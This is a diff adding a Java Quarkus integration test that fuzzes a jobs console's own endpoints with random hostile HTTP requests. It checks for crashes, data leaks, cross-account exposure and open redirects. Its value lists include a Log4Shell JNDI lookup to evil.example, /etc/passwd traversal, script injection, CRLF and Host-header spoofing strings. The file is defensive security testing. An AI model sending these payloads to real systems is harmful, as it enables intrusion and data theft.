@@ -1,0 +1,411 @@
+package io.jobsconsole.attack;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.jobsconsole.web.ConsoleSession;
+import io.quarkus.test.common.QuarkusTestResource;
+import io.quarkus.test.junit.QuarkusTest;
+import java.io.IOException;
+import java.net.SocketTimeoutException;
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+import java.util.TreeMap;
+import java.util.concurrent.Callable;
+import java.util.concurrent.Executors;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Requests that were made to break something. The seed is fixed, so that what fails once fails again; {@code -Pattack} sends
+ * fifty times as many, from another seed each time.
+ */
+@QuarkusTest
+@QuarkusTestResource(value = HostileApi.class, restrictToAnnotatedClass = true)
+class AttackIT {
+
+    private static final int REQUESTS = Integer.getInteger("attack.requests", 20_000);
+    private static final long SEED = Long.getLong("attack.seed", 1);
+    private static final int WORKERS = 8;
+
+    private static final List<String> METHODS = List.of(
+            "GET",
+            "GET",
+            "GET",
+            "GET",
+            "GET",
+            "GET",
+            "GET",
+            "HEAD",
+            "POST",
+            "PUT",
+            "DELETE",
+            "PATCH",
+            "OPTIONS",
+            "TRACE",
+            "PROPFIND",
+            "CONNECT",
+            "BREW");
+
+    private static final List<String> PARAMETERS = List.of(
+            "states",
+            "corpus",
+            "since",
+            "since_at",
+            "job",
+            "limit",
+            "page",
+            "pageKey",
+            "trail",
+            "asOf",
+            "check",
+            "sort",
+            "view",
+            "scale",
+            "refresh",
+            "back",
+            "tz",
+            "theme",
+            "state",
+            "code",
+            "error",
+            "session_state",
+            "iss",
+            "x");
+
+    private static final List<String> PATHS = List.of(
+            "/",
+            "/jobs",
+            "/accounts",
+            "/accounts/demo/jobs",
+            "/accounts/demo/jobs",
+            "/accounts/locked/jobs",
+            "/accounts/demo-v2/jobs",
+            "/accounts/demo/jobs/job_1",
+            "/accounts/locked/jobs/job_1",
+            "/accounts/demo/jobs.csv",
+            "/accounts/locked/jobs.json",
+            "/accounts/hostile/jobs",
+            "/accounts/hostile-v2/jobs",
+            "/accounts/nope/jobs",
+            "/preferences",
+            "/prefs",
+            "/help/links",
+            "/help/keys",
+            "/callback",
+            "/logout",
+            "/signed-out",
+            "/sign-in-error",
+            "/back-channel-logout",
+            "/csp-report",
+            "/openapi",
+            "/assets/console.css",
+            "/q/health",
+            "/q/dev-ui",
+            "/favicon.ico");
+
+    private static final List<String> HEADERS = List.of(
+            "Accept",
+            "Accept-Language",
+            "Accept-Encoding",
+            "Authorization",
+            "Content-Type",
+            "Cookie",
+            "Origin",
+            "Referer",
+            "Sec-Fetch-Site",
+            "Sec-Fetch-Mode",
+            "Sec-Fetch-Dest",
+            "Sec-Purpose",
+            "X-Forwarded-For",
+            "X-Forwarded-Host",
+            "X-Forwarded-Proto",
+            "X-Forwarded-Prefix",
+            "Forwarded",
+            "X-Original-URL",
+            "X-Rewrite-URL",
+            "X-HTTP-Method-Override",
+            "Range",
+            "If-None-Match",
+            "If-Modified-Since",
+            "If-Match",
+            "Upgrade",
+            "Via",
+            "X-Requested-With",
+            "User-Agent",
+            "X-Request-Id",
+            "Timeout",
+            "customer-id",
+            "x-api-key",
+            "traceparent",
+            "Max-Forwards");
+
+    private static final List<String> VALUES = List.of(
+            "",
+            "*",
+            "*/*",
+            "text/html",
+            "application/json",
+            "text/html;q=0",
+            "null",
+            "none",
+            "cross-site",
+            "same-origin",
+            "navigate",
+            "cors",
+            "document",
+            "iframe",
+            "prefetch",
+            "http://evil.example",
+            "evil.example",
+            "127.0.0.1",
+            "for=1.2.3.4;host=evil.example;proto=https",
+            "Bearer x",
+            "Bearer eyJhbGciOiJub25lIn0.e30.",
+            "Basic YTpi",
+            "Bearer",
+            "bytes=0-1,5-",
+            "W/\"x\"",
+            "\"",
+            "h2c",
+            "gzip;q=0",
+            "br, gzip, deflate",
+            "Thu, 01 Jan 1970 00:00:00 GMT",
+            "${jndi:ldap://evil.example/a}",
+            "<script>alert(1)</script>",
+            "../../etc/passwd",
+            "1".repeat(300),
+            "é",
+            "%0d%0a",
+            "application/x-www-form-urlencoded",
+            "multipart/form-data; boundary=x",
+            "zz-ZZ,x-klingon");
+
+    private static final List<String> COOKIES = List.of(
+            "q_session=x",
+            "q_session=eyJhbGciOiJkaXIifQ..a.b.c",
+            "q_session_chunk_1=x",
+            "q_session_chunk_x=1",
+            "q_session_chunk_=",
+            "q_auth_00000000-0000-0000-0000-000000000000=x|y|z",
+            "q_auth_x=1",
+            "q_auth=1",
+            "q_return_00000000=//evil.example",
+            "q_return_x=1",
+            "__Host-q_session=x",
+            "q_post_logout=x",
+            "q_session_at=1",
+            "q_session_rt=1",
+            "tz=../../etc",
+            "tz=",
+            "theme=<script>",
+            "account=locked",
+            "account=nope",
+            "account=",
+            "back=//evil.example",
+            "back=%2F%2Fevil.example",
+            "=",
+            ";;;",
+            "a",
+            "\"",
+            "x=" + "y".repeat(2_000),
+            "é=é",
+            "$Version=1");
+
+    private enum Who {
+        NOBODY,
+        ALICE,
+        BOB,
+        BROKEN
+    }
+
+    @Test
+    void breaksNothing() throws Exception {
+        var sessions = Map.of(
+                Who.ALICE, ConsoleSession.signedInAs("alice").cookieHeader(),
+                Who.BOB, ConsoleSession.signedInAs("bob").cookieHeader());
+        var secrets = ConsoleSession.signedInAs("alice")
+                .open("/accounts/locked/jobs?since=180d")
+                .ids();
+        assertThat(secrets).as("jobs that bob must not see").isNotEmpty();
+        var pool = Executors.newFixedThreadPool(WORKERS);
+        var histogram = new TreeMap<Integer, Integer>();
+        var findings = new ArrayList<String>();
+        try {
+            var shares = new ArrayList<Callable<Share>>();
+            for (var worker = 0; worker < WORKERS; worker++) {
+                var random = new Random(SEED * 1_000 + worker);
+                shares.add(() -> new Share(random, sessions, secrets).send(REQUESTS / WORKERS));
+            }
+            for (var share : pool.invokeAll(shares)) {
+                share.get().statuses.forEach((status, count) -> histogram.merge(status, count, Integer::sum));
+                findings.addAll(share.get().findings);
+            }
+        } finally {
+            pool.shutdownNow();
+        }
+        System.out.printf(
+                "G1: %d hostile requests, seed %d: %s%n",
+                histogram.values().stream().mapToInt(Integer::intValue).sum(), SEED, histogram);
+        assertThat(findings).isEmpty();
+    }
+
+    /** What one worker sends. */
+    private static final class Share {
+
+        private final Random random;
+        private final Map<Who, String> sessions;
+        private final List<String> secrets;
+        private final Map<Integer, Integer> statuses = new TreeMap<>();
+        private final List<String> findings = new ArrayList<>();
+        private String previous = "";
+
+        Share(Random random, Map<Who, String> sessions, List<String> secrets) {
+            this.random = random;
+            this.sessions = sessions;
+            this.secrets = secrets;
+        }
+
+        Share send(int requests) throws IOException {
+            try (var wire = new Wire()) {
+                for (var sent = 0; sent < requests; sent++) {
+                    send(wire);
+                }
+            }
+            return this;
+        }
+
+        private void send(Wire wire) throws IOException {
+            var who = Who.values()[random.nextInt(4)];
+            var method = one(METHODS);
+            var target = target();
+            var headers = headers(who);
+            var body = method.matches("POST|PUT|PATCH") && random.nextBoolean() ? body() : "";
+            var sent = method + " " + target + " " + headers.keySet() + " as " + who;
+            try {
+                var answer = wire.ask(method, target, headers, body);
+                statuses.merge(answer.status(), 1, Integer::sum);
+                previous = answer.status() + " to " + sent;
+                judge(who, target, answer).forEach(finding -> findings.add(finding + ": " + sent));
+            } catch (SocketTimeoutException hung) {
+                findings.add("hung: " + sent + " after " + previous);
+                wire.close();
+            }
+        }
+
+        private List<String> judge(Who who, String target, Wire.Answer answer) {
+            var wrong = new ArrayList<String>();
+            // What a taken-over API breaks is reported as its failure, not as ours.
+            if (answer.status() >= 500 && !(target.contains("/hostile") && answer.status() > 501)) {
+                wrong.add("status " + answer.status());
+            }
+            Wire.leaks().stream()
+                    .filter(leak -> answer.body().contains(leak))
+                    .forEach(leak -> wrong.add("shows " + leak));
+            if (answer.text().contains("evil.example\n")
+                    || answer.header("location").filter(AttackIT::isElsewhere).isPresent()) {
+                wrong.add("leads to " + answer.header("location"));
+            }
+            if (who != Who.ALICE && secrets.stream().anyMatch(answer.body()::contains)) {
+                wrong.add("shows another account's jobs");
+            }
+            if (answer.status() > 0 && answer.header("content-security-policy").isEmpty() && !isMadeBeforeUs(answer)) {
+                wrong.add("status " + answer.status() + " without our headers");
+            }
+            return wrong;
+        }
+
+        /** What Vert.x refuses before anything of ours is asked has neither a body nor headers. */
+        private static boolean isMadeBeforeUs(Wire.Answer answer) {
+            return answer.body().isEmpty() && List.of(400, 414, 431).contains(answer.status());
+        }
+
+        private String target() {
+            var path = random.nextInt(4) == 0 ? generatedPath() : one(PATHS);
+            if (path.startsWith("/accounts/hostile")) {
+                return path + "?corpus=" + (HostileApi.NONSENSE + 1 + random.nextInt(1_000_000));
+            }
+            var parameters = new ArrayList<String>();
+            for (var count = random.nextInt(6); count > 0; count--) {
+                parameters.add(one(PARAMETERS) + (random.nextInt(9) == 0 ? "" : "=" + value()));
+            }
+            return parameters.isEmpty() ? path : path + "?" + String.join("&", parameters);
+        }
+
+        private String generatedPath() {
+            var path = new StringBuilder("/");
+            for (var count = 1 + random.nextInt(6); count > 0; count--) {
+                path.append(random.nextInt(3) == 0 ? "/" : "").append(one(Payloads.pieces()));
+            }
+            return path.toString().replace(" ", "%20");
+        }
+
+        private String value() {
+            return switch (random.nextInt(5)) {
+                case 0 -> coded(one(Payloads.scripts()));
+                case 1 -> coded(one(Payloads.redirects()));
+                case 2 -> one(Payloads.pieces()).replace(" ", "%20").replace("&", "%26");
+                case 3 ->
+                    one(List.of(
+                            "failed", "active", "24h", "180d", "1", "100", "created", "timeline", "calendar", "off"));
+                default -> coded(new String(bytes(random.nextInt(60)), StandardCharsets.ISO_8859_1));
+            };
+        }
+
+        private Map<String, String> headers(Who who) {
+            var headers = new HashMap<String, String>();
+            for (var count = random.nextInt(4); count > 0; count--) {
+                headers.put(one(HEADERS), one(VALUES));
+            }
+            if (random.nextInt(30) == 0) {
+                headers.put(
+                        "Host",
+                        one(List.of("evil.example", "localhost@evil.example", "", "[::1", "localhost:99999", "a b")));
+            }
+            var cookies = new ArrayList<String>();
+            for (var count = random.nextInt(3); count > 0; count--) {
+                cookies.add(one(COOKIES));
+            }
+            if (sessions.containsKey(who)) {
+                cookies.add(sessions.get(who));
+            } else if (who == Who.BROKEN) {
+                cookies.add(sessions.get(Who.ALICE).substring(0, 400 + random.nextInt(400)));
+            }
+            if (!cookies.isEmpty()) {
+                headers.put("Cookie", String.join("; ", cookies));
+            }
+            return headers;
+        }
+
+        private String body() {
+            return switch (random.nextInt(4)) {
+                case 0 -> "logout_token=" + coded(one(Payloads.scripts()));
+                case 1 -> "{\"csp-report\":{\"blocked-uri\":\"" + one(Payloads.pieces()) + "\"}}";
+                case 2 -> "x".repeat(random.nextInt(20_000));
+                default -> new String(bytes(random.nextInt(300)), StandardCharsets.ISO_8859_1);
+            };
+        }
+
+        private byte[] bytes(int length) {
+            var bytes = new byte[length];
+            random.nextBytes(bytes);
+            return bytes;
+        }
+
+        private <T> T one(List<T> of) {
+            return of.get(random.nextInt(of.size()));
+        }
+
+        private static String coded(String value) {
+            return URLEncoder.encode(value, StandardCharsets.UTF_8);
+        }
+    }
+
+    /** Our own pages are led to by paths; the Dev Service's are on another port of this machine. */
+    static boolean isElsewhere(String location) {
+        return !location.matches("(/(?![/\\\\])[^\\\\\\s]*|http://localhost:\\d+(/.*)?)");
+    }
+}
